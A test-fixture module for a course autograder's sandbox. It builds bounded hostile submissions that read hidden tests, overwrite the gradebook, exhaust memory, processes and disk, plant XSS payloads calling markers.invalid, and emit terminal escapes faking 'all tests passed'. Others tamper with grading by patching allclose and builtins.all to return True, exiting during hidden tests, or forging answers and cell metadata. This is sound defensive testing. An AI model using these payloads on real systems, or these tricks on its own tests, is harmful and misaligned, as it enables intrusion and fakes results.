"""The hostile class: submissions whose code attacks the grader, each with the exact
outcome the sandbox must give (tests/test_sandbox.py).

Each probe is a correct DDPG submission (tests/sample_class.py's solution) with an
attack added, so that what it costs is exactly what the attack itself causes. Every
probe is bounded, so that it stays harmless on a shared machine even without the
sandbox (the tests also grade the class with --trusted, to show that each probe does
what it says when nothing stops it):

- probe-read: looks for the course's notebooks (solutions, source/, release/) and the
  gradebook by absolute and relative paths, and prints any hidden test it finds;
- probe-write: writes the gradebook (every grade to 100) and another student's notebook;
- probe-network: connects to a server of the test on 127.0.0.1;
- probe-memory: allocates 5 GB (the sandbox allows 4) in compute_actor_loss, once per process;
- probe-fork: forks 200 processes (the sandbox allows 64) in soft_update_params, once per
  process; they wait until it ends (60 s at most);
- probe-disk: writes one file of up to 512 MB (files are limited to 256 MB), then files
  of 32 MB up to 1 GB in all (the working directory holds 512 MB), and removes them; then
  leaves a small file in its working directory (a copy of its folder, in the sandbox);
- probe-markup: markup and text meant for the instructor (``markup_probe``): outputs with
  ``<script>``, ``onerror``, a Javascript output, an image whose size carries an ``onload``,
  a markdown answer with ``<img onerror>``, ``<script>`` and a ``javascript:`` link, and an
  error whose message writes the clipboard (OSC 52) and moves the cursor to print "all
  tests passed" over the line above. Every script it plants logs a marker
  (``MARKER-...``) on the console and asks for http://markers.invalid/MARKER-...; its
  scores are the honest solution's, with one note, shown inert.
"""

from __future__ import annotations

from pathlib import Path

from sample_class import CRITIC_LOSS, DDPG, DDPG_TESTS, TD3, Edit, Sample, write_sample

SOFT_UPDATE = ("test_soft_update_value", "test_soft_update_hidden")


def _top(code: str) -> Edit:
    """Code run at the top of the actor-loss cell (where a student's own code may run)."""
    return Edit("ddpg-actor-loss", "def compute_actor_loss(", code + "\n\ndef compute_actor_loss(")


def probes(root: Path, repo: Path, port: int) -> list[Sample]:
    """The probes, aimed at the course folder ``root``, the repository and a server on ``port``."""
    root, repo = str(Path(root).resolve()), str(Path(repo).resolve())
    read = f'''import glob as _glob
_found = []
for _pattern in ({repo!r} + "/solutions/*.ipynb", {root!r} + "/source/*/*.ipynb", {root!r} + "/release/*/*.ipynb",
                 "../../../source/*/*.ipynb", "../../../../../solutions/*.ipynb", {root!r} + "/gradebook.db"):
    for _path in sorted(_glob.glob(_pattern))[:20]:
        try:
            _text = open(_path, errors="ignore").read()
        except OSError:
            continue
        _found.append(_path)
        if "BEGIN HIDDEN TESTS" in _text:
            print(_text.split("BEGIN HIDDEN TESTS", 1)[1][:3000].replace("\\\\n", "\\n"))
print("probe read:", len(_found), "course files")'''
    write = f'''import sqlite3 as _sqlite3
try:
    with _sqlite3.connect({root!r} + "/gradebook.db", timeout=5) as _db:
        _db.execute("update grade set manual_score = 100")
    print("probe gradebook: written")
except Exception as _error:
    print("probe gradebook: refused", type(_error).__name__)
try:
    with open({root!r} + "/submitted/ddpg-solution/01-ddpg/01-ddpg.ipynb", "a") as _f:
        _f.write(" ")
    print("probe other student: written")
except OSError as _error:
    print("probe other student: refused", type(_error).__name__)
import glob as _glob, os as _os
# the folders where a judge asks the grading engine for retrainings and reads their answers
# (a forged answer there would name the wrong function): a harmless file, removed
_plans = [_path for _path in _glob.glob("/tmp/course-work-*/retraining-plans") if _os.path.isdir(_path)]
for _folder in _plans[:5]:
    try:
        with open(_folder + "/probe-plan.txt", "w") as _f:
            _f.write("probe")
        _os.remove(_folder + "/probe-plan.txt")
        print("probe plans: written")
    except OSError as _error:
        print("probe plans: refused", type(_error).__name__)
print("probe plans:", len(_plans), "folders")'''
    network = f'''import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _connection:
        _connection.sendall(b"probe-network")
    print("probe network: connected")
except OSError as _error:
    print("probe network: refused", type(_error).__name__)'''
    disk = '''import os as _os
_size = 0
try:
    with open("probe-big.bin", "wb") as _f:
        for _ in range(16):
            _f.write(b"\\0" * 2**25)
            _size += 2**25
    print("probe file size: not stopped")
except OSError as _error:
    print("probe file size: stopped at", _size >> 20, "MB,", type(_error).__name__)
_total = 0
try:
    for _i in range(32):
        with open(f"probe-fill-{_i}.bin", "wb") as _f:
            _f.write(b"\\0" * 2**25)
        _total += 2**25
    print("probe disk: not stopped")
except OSError as _error:
    print("probe disk: stopped below", (_total >> 20) + 32, "MB,", type(_error).__name__)
finally:
    for _name in _os.listdir("."):
        if _name.startswith("probe-"):
            _os.remove(_name)
with open("left-by-probe.txt", "w") as _f:  # in the submission's own folder, if it could
    _f.write("written during grading")'''
    return [
        *tampering_probes(),
        Sample("ddpg-solution", DDPG, "the student whose files probe-write attacks"),
        Sample("probe-read", DDPG, "reads the solutions, the hidden tests, the gradebook", edits=[_top(read)]),
        Sample("probe-write", DDPG, "writes the gradebook and another student's notebook", edits=[_top(write)]),
        Sample("probe-network", DDPG, "connects to a server on 127.0.0.1", edits=[_top(network)]),
        Sample("probe-memory", DDPG, "allocates 5 GB in compute_actor_loss", loses=("test_actor_loss",), edits=[
            Edit("ddpg-actor-loss", "    return -q_values.mean()",
                 # once per process: without a sandbox it costs one 5 GB fill, not one per call
                 "    if not globals().get('_hogged'):\n"
                 "        _hog = b'\\x01' * (5 * 2**30)\n"
                 "        del _hog\n"
                 "        globals()['_hogged'] = True\n"
                 "    return -q_values.mean()")]),
        Sample("probe-fork", DDPG, "forks 200 processes in soft_update_params", loses=SOFT_UPDATE,
               notes=("test_soft_update_value: the sandbox stopped the student's code", "more than 64 processes"), edits=[
            Edit("ddpg-soft-update", "    with torch.no_grad():\n",
                 # once per process; the children wait until their parent ends (60 s at most), so
                 # that 200 are alive at once however slowly a loaded machine forks them
                 "    import os, select\n"
                 "    if not globals().get('_forked'):\n"
                 "        globals()['_forked'] = True\n"
                 "        _r, _w = os.pipe()\n"
                 "        for _ in range(200):\n"
                 "            if os.fork() == 0:\n"
                 "                os.close(_w)\n"
                 "                select.select([_r], [], [], 60)\n"
                 "                os._exit(0)\n"
                 "        os.close(_r)\n"
                 "    with torch.no_grad():\n")]),
        Sample("probe-disk", DDPG, "fills the disk", edits=[_top(disk)]),
        markup_probe(),
        *[sample for sample in bounds_probes() if sample.student != "probe-sleeps"],
    ]


#: what each script planted by probe-markup does when it runs: a console message and a
#: request, both heard by the browser test (tests/test_sandbox.py)
def _marker(name: str) -> str:
    return f"console.log('MARKER-{name}');fetch('http://markers.invalid/MARKER-{name}')"


MARKERS = ("html-script", "html-onerror", "html-link", "javascript", "png-onload", "print-script",
           "markdown-onerror", "markdown-script", "markdown-link")
#: the error message of probe-markup: a clipboard write (OSC 52), then cursor moves that
#: rewrite the line above in green
ESCAPES = "\x1b]52;c;cHJvYmUtY2xpcGJvYXJk\x07\x1b[1A\x1b[2K\r\x1b[32mall tests passed\x1b[0m\x9b2J\u202e"
#: the note the instructor reads instead, every control character shown
ESCAPES_SHOWN = "\\x1b]52;c;cHJvYmUtY2xpcGJvYXJk\\x07\\x1b[1A\\x1b[2K\\r\\x1b[32mall tests passed"
#: a 1x1 PNG
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="


def markup_probe() -> Sample:
    """Markup and escape sequences for the instructor's browser and terminal (see the
    module's docstring); bounded: it only displays and raises."""
    outputs = f'''from IPython.display import HTML as _HTML, Javascript as _Javascript, display as _display
_display(_HTML("<b>probe markup</b><script>{_marker('html-script')}</script>"
               "<img src=x onerror=\\"{_marker('html-onerror')}\\">"
               "<a href=\\"javascript:{_marker('html-link')}\\">a link</a>"))
_display(_Javascript("{_marker('javascript')}"))
_display({{"image/png": {PIXEL!r}, "text/plain": "a pixel"}}, raw=True,
         metadata={{"image/png": {{"width": "1 onload={_marker('png-onload')}"}}}})
print("<script>{_marker('print-script')}</script>")'''
    answer = (f"<img src=x onerror=\"{_marker('markdown-onerror')}\"> <script>{_marker('markdown-script')}</script>\n\n"
              f"[a link](javascript:{_marker('markdown-link')})\n\nA time limit is not a state")
    raises = ("    return -q_values.mean()\n\n\n"
              f"raise RuntimeError({ESCAPES!r})  # after the definition: the function is defined")
    return Sample("probe-markup", DDPG, "plants scripts in its outputs and answer, escapes in its error message",
                  notes=(f"ddpg-actor-loss raised RuntimeError: {ESCAPES_SHOWN}",), edits=[
                      _top(outputs),
                      Edit("ddpg-actor-loss", "    return -q_values.mean()", raises),
                      Edit("answer_must_bootstrap", "A time limit is not a state", answer)])


#: the stubs of the release, left in place: without tampering, their tests score 0
STUBS = [
    Edit("ddpg-actor-loss", "    return -q_values.mean()", "    raise NotImplementedError()"),
    Edit("ddpg-soft-update",
         "    with torch.no_grad():\n"
         "        for param, target_param in zip(net.parameters(), target_net.parameters()):\n"
         "            target_param.mul_(1 - tau).add_(param, alpha=tau)",
         "    raise NotImplementedError()"),
]
#: the critic loss without the discount (tests/sample_class.py's bug-no-discount)
NO_DISCOUNT = Edit("ddpg-critic-loss", "reward[1] + discount_factor * must_bootstrap", "reward[1] + must_bootstrap")
#: every test of 01-ddpg: a submission suspected of tampering loses every test after the
#: tampering (the update steps' tests included)
ALL_TESTS = DDPG_TESTS
#: the update steps' tests, lost too by a submission that tampers before them
UPDATE_TESTS = tuple(t for t in DDPG_TESTS if t.startswith("test_update_"))


def _critic_cell_top(code: str) -> Edit:
    return Edit("ddpg-critic-loss", "def compute_critic_loss(", code + "\n\ndef compute_critic_loss(")


def tampering_probes() -> list[Sample]:
    """Submissions that try to forge their verdicts; none may gain a point. Those caught
    changing what a test relies on score 0 on every test that ran meanwhile."""
    hooks = """_shell = get_ipython()
_shell.input_transformers_cleanup.append(lambda lines: [])  # every later cell runs as nothing"""
    shell = """from IPython.core.interactiveshell import InteractiveShell as _Shell
_Shell.showtraceback = lambda self, *args, **kwargs: None
_run_cell = _Shell.run_cell
def _quiet_run_cell(self, *args, **kwargs):
    _result = _run_cell(self, *args, **kwargs)
    _result.error_in_exec = None
    return _result
_Shell.run_cell = _quiet_run_cell
get_ipython().events.register("post_run_cell", lambda result: None)"""
    comparisons = """import builtins as _builtins, numpy as _np, torch as _torch
_torch.isclose = lambda *args, **kwargs: _torch.tensor(True)
_torch.allclose = lambda *args, **kwargs: True
_np.allclose = lambda *args, **kwargs: True
_builtins.all = lambda *args, **kwargs: True"""
    helpers = """import contextlib as _contextlib
import bbrl_course.checks as _checks
_checks.close = lambda *args, **kwargs: True
_checks.checking = lambda name: _contextlib.suppress(Exception)
close = _checks.close
checking = _checks.checking"""
    # exits when called by the hidden test (batches of 5), as if to stop the grading there
    exits = Edit("ddpg-critic-loss", "    target = reward[1]",
                 "    if reward.shape[-1] == 5:\n        import os\n        os._exit(0)\n    target = reward[1]")
    leaves = Edit("ddpg-actor-loss", "    return -q_values.mean()",
                  "    if q_values.requires_grad:  # the hidden part of the test\n        raise SystemExit(0)\n"
                  "    return -q_values.mean()")
    # prints what a passing test prints, and writes a forged answer on every open descriptor
    forges = Edit("ddpg-actor-loss", "    return -q_values.mean()",
                  "    import os\n"
                  "    print('test_actor_loss passed: 1 / 1')\n"
                  "    for fd in range(3, 64):\n"
                  "        try:\n"
                  "            os.write(fd, (16).to_bytes(8, 'little') + b'forged answer!!!')\n"
                  "        except OSError:\n"
                  "            pass\n"
                  "    return q_values.mean()")
    # looks, from inside compute_critic_loss, for the test that called it: its names and its source
    spies = Edit("ddpg-critic-loss", "    target = reward[1]",
                 "    import inspect, sys\n"
                 "    names, lines, frame = 0, 0, sys._getframe(1)\n"
                 "    while frame is not None:\n"
                 "        names += len({'_critic_loss', '_expected', '_whole', '_each'} & set(frame.f_globals))\n"
                 "        try:\n"
                 "            lines += inspect.getsource(frame.f_code).count('_critic_loss(')\n"
                 "        except (OSError, TypeError):\n"
                 "            pass\n"
                 "        frame = frame.f_back\n"
                 "    print(f'probe spy: {names} names of the tests, {lines} lines of hidden tests')\n"
                 "    target = reward[1]")
    suspected = "tampering suspected: the student's code"
    return [
        Sample("probe-spy", DDPG, "looks for the hidden test that calls it (its names, its source)", edits=[spies]),
        Sample("probe-ipython-hooks", DDPG, "an input transformer that empties every later cell; stubs left",
               loses=ALL_TESTS, edits=[_critic_cell_top(hooks), *STUBS],
               notes=(f"{suspected} changes IPython's input_transformers_cleanup",)),
        Sample("probe-ipython-shell", DDPG, "showtraceback, run_cell and events replaced; stubs left",
               loses=ALL_TESTS, edits=[_critic_cell_top(shell), *STUBS],
               notes=("changes IPython's events", "replaced IPython's InteractiveShell.run_cell",
                      "replaced IPython's InteractiveShell.showtraceback")),
        Sample("probe-comparisons", DDPG, "torch, numpy and builtins comparisons replaced; no discount",
               loses=ALL_TESTS, edits=[_critic_cell_top(comparisons), NO_DISCOUNT],
               notes=("replaced builtins.all", "replaced torch.allclose",
                      "replaced torch.isclose", "replaced numpy.allclose")),
        Sample("probe-helpers", DDPG, "the course's close and checking replaced; no discount",
               loses=ALL_TESTS, edits=[_critic_cell_top(helpers), NO_DISCOUNT],
               notes=("replaced bbrl_course.checks.close", "replaced bbrl_course.checks.checking",
                      "the notebook redefines the course's close")),
        Sample("probe-exits", DDPG, "os._exit(0) in the hidden critic-loss test, SystemExit in the actor's",
               loses=(*CRITIC_LOSS, "test_actor_loss"), edits=[NO_DISCOUNT, exits, leaves],
               notes=("test_critic_loss_hidden: the student's code ended its process while it ran this test "
                      "(exit code 0",)),
        Sample("probe-forged-answer", DDPG, "prints a fake pass and forges an answer on the judge's pipe",
               loses=("test_actor_loss",), edits=[forges],
               notes=("tampering suspected: the student's process sent an answer that is not data",)),
        # the soft update of bug-not-in-place and bug-autograd-graph, reported "in place, no graph"
        Sample("probe-forged-side-effects", DDPG, "a soft update not in place and recorded by autograd, "
               "with the channel's Server.op_call replaced to report it in place and without a graph",
               loses=("test_soft_update_hidden", *UPDATE_TESTS), edits=[forged_side_effects(hide=False)],
               notes=(f"{suspected} replaced the channel's Server.op_call",)),
        # the same, hidden from the watch: the verdict itself must catch it
        Sample("probe-hidden-side-effects", DDPG, "the same, and Server.tampering replaced to report nothing",
               loses=("test_soft_update_hidden",), edits=[forged_side_effects(hide=True)]),
    ]


def forged_side_effects(hide: bool) -> Edit:
    """A soft update that, called by the hidden test (its networks are Sequential), is right
    the first time (so that only what follows is forged) and replaces the channel's
    ``Server.op_call`` by one that reports every change as made in place and no autograd
    graph (and, with ``hide``, ``Server.tampering`` by one that reports nothing); then does
    what bug-not-in-place and bug-autograd-graph do: replaces the target's ``.data`` by a
    tensor that autograd recorded."""
    hiding = "            _server.tampering = lambda self: []\n" if hide else ""
    return Edit("ddpg-soft-update", "    with torch.no_grad():\n", (
        "    import sys\n"
        "    _server = getattr(sys.modules['__main__'], 'Server', None)\n"
        "    if isinstance(net, torch.nn.Sequential) and _server is not None:  # the hidden test, in the grader\n"
        "        globals()['_calls'] = globals().get('_calls', 0) + 1\n"
        "        if globals()['_calls'] == 1:\n"
        "            _original = _server.op_call\n"
        "            def _forged(self, body, sent):\n"
        "                answer = _original(self, body, sent)\n"
        "                answer['built'] = False\n"
        "                answer['changed'] = [[i, v, False] for i, v, _ in answer.get('changed', [])]\n"
        "                answer['replaced'] = []\n"
        "                return answer\n"
        "            _server.op_call = _forged\n"
        f"{hiding}"
        "        else:\n"
        "            for param, target_param in zip(net.parameters(), target_net.parameters()):\n"
        "                target_param.data = tau * param + (1 - tau) * target_param.data\n"
        "            return\n"
        "    with torch.no_grad():\n"))


#: cells a probe adds to its notebook (student -> [(after grade_id, source, nbgrader metadata or None)])
ADDED: dict[str, list[tuple[str, str, dict | None]]] = {}

#: the time budget of the course of probe-sleeps (s): the probe needs more
SLEEPS_BUDGET = 20
#: what a test keeps of the student's prints, and a cell of the student's outputs (bytes)
HUGE_PRINT = 32 * 2**20
#: a line the student's code writes on every output it has, to forge a line of the grader's log
FORGED_LOG_LINE = "[ERROR] forged by the student: this submission scores 100"


def bounds_probes() -> list[Sample]:
    """Submissions that try to hold a worker, flood the outputs, write past the disk limit
    or make themselves ungradable (issue 21): each is a correct DDPG otherwise."""
    sleeps = Edit("ddpg-soft-update", "    with torch.no_grad():\n",
                  "    import time\n"
                  "    for _ in range(50):  # 25 s, under the test's limit of 30 s; the budget runs out first\n"
                  "        time.sleep(0.5)\n"
                  "    with torch.no_grad():\n")
    ADDED["probe-sleeps"] = [("ddpg-actor-loss", "import time\nfor _ in range(50):\n    time.sleep(0.5)", None)
                             for _ in range(3)]
    huge = Edit("ddpg-actor-loss", "    return -q_values.mean()",
                f"    print('x' * {HUGE_PRINT})\n    return -q_values.mean()")
    ADDED["probe-huge-print"] = [("ddpg-actor-loss", f"print('y' * {HUGE_PRINT})", None)]
    writes = f'''import glob as _glob, os as _os
_ipc = [_path for _path in _glob.glob("/tmp/course-kernel-*") if _os.path.isdir(_path)]
for _folder in _ipc:  # the folder of the kernel's connection file: read-only
    try:
        with open(_folder + "/probe-ipc.bin", "wb") as _f:
            _f.write(b"\\0" * 2**20)
        _os.remove(_folder + "/probe-ipc.bin")
        print("probe ipc: written")
    except OSError as _error:
        print("probe ipc: refused", type(_error).__name__)
print("probe ipc:", len(_ipc), "folders")
for _folder, _size in (("/dev", 1), ("/dev/shm", 64)):  # 65 MB at most, removed
    _written = 0
    try:
        with open(_folder + "/probe-dev.bin", "wb") as _f:
            for _ in range(_size):
                _f.write(b"\\0" * 2**20)
                _f.flush()
                _written += 1
        print("probe", _folder, "written:", _written, "MB")
    except OSError:
        print("probe", _folder, "stopped at", _written, "MB")
    finally:
        try:
            _os.remove(_folder + "/probe-dev.bin")
        except OSError:
            pass
_line = ("\\n{FORGED_LOG_LINE}\\n" * 64).encode()
for _fd in (0, 1, 2):  # 3 x 8 MB at most, on the standard descriptors it was given
    try:
        for _ in range(2**23 // len(_line)):
            _os.write(_fd, _line)
    except OSError:
        pass'''
    forged_copy = {"grade": True, "grade_id": "test_critic_loss_value", "locked": True, "points": 1e9,
                   "schema_version": 3, "solution": False, "task": False, "cell_type": "code"}
    new_graded = {"grade": True, "grade_id": "test_bonus", "locked": False, "points": 100,
                  "schema_version": 3, "solution": False, "task": False, "cell_type": "code"}
    ADDED["probe-forged-cells"] = [("test_critic_loss_is_a_scalar", "pass", forged_copy),
                                   ("test_soft_update_hidden", "pass", new_graded)]
    ADDED["probe-duplicated-cell"] = [("test_actor_loss", None, "copy")]
    forged_note = "forged or duplicated: ignored"
    return [
        Sample("probe-sleeps", DDPG, "many short sleeps, each under its cell's limit: over the submission's budget",
               # the cells it added run in the student's process (75 s of sleeps): the budget
               # runs out before the first test, and every test scores 0
               loses=DDPG_TESTS, edits=[sleeps],
               notes=(f"the submission's time budget of {SLEEPS_BUDGET} s ran out at test_critic_loss_is_a_scalar",)),
        Sample("probe-huge-print", DDPG, "prints 32 MB in a cell and in compute_actor_loss", edits=[huge]),
        Sample("probe-writes", DDPG, "writes 8 MB of forged log lines on each of its standard descriptors, in the "
               "folder of a kernel's connection file (none runs while grading), in /dev and /dev/shm", edits=[_top(writes)]),
        Sample("probe-forged-cells", DDPG, "a copy of a test cell (pass, 1e9 points) before it, raised points, a new "
               "graded cell",
               notes=(f"metadata of cell test_critic_loss_value {forged_note}",
                      f"metadata of cell test_actor_loss {forged_note}",
                      f"metadata of cell test_bonus {forged_note}")),
        Sample("probe-duplicated-cell", DDPG, "a test cell copied by accident (as is, with its metadata)",
               notes=(f"metadata of cell test_actor_loss {forged_note}",)),
    ]


def td3_probes() -> list[Sample]:
    """A TD3 whose evaluation history claims its best policy past its 100,000th evaluation:
    the judge would replay them all (0.5 s each); it refuses. It stops training once it has
    claimed (at its 100th update): what is refused is the claim, whatever trained before."""
    claims = Edit("td3-run", '            td3.logger.add_log("critic_loss", critic_loss, td3.nb_steps)',
                  '            td3.logger.add_log("critic_loss", critic_loss, td3.nb_steps)\n'
                  "            if getattr(td3, 'eval_history', None):\n"
                  "                td3.eval_history.extend([(0, torch.full((10,), -1e9))] * 100_000)\n"
                  "                td3.eval_history.append((td3.nb_steps, torch.full((10,), 1e9)))\n"
                  "                return")
    return [Sample("probe-evaluations", TD3, "claims its best policy past evaluation 100,000", loses=("test_td3_learns",),
                   trains=True, edits=[claims],
                   notes=("test_td3_learns:", "the grader replays at most 20 evaluations",
                          "refused, not replayed"))]


def _add_cells(path: Path, student: str) -> None:
    """The cells ADDED[student], in the notebook at ``path``."""
    import copy

    import nbformat

    notebook = nbformat.read(str(path), as_version=4)
    for after, source, meta in ADDED.get(student, []):
        index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
        if meta == "copy":  # the cell itself, copied with its metadata, just after it
            cell = copy.deepcopy(notebook.cells[index])
            cell.id = cell.id + "-copy"
        else:
            cell = nbformat.v4.new_code_cell(source)
            if meta is not None:
                cell.metadata["nbgrader"] = dict(meta)
        notebook.cells.insert(index + 1, cell)
    if student == "probe-forged-cells":  # and the points of a test raised
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_actor_loss":
                cell.metadata["nbgrader"]["points"] = 1000
    nbformat.write(notebook, str(path))


def write_hostile_class(root: Path, repo: Path, port: int, samples: list[Sample] | None = None) -> list[Sample]:
    samples = probes(root, repo, port) if samples is None else samples
    for sample in samples:
        path = write_sample(sample, Path(root) / "submitted")
        if sample.student in ADDED or sample.student == "probe-forged-cells":
            _add_cells(path, sample.student)
    return samples
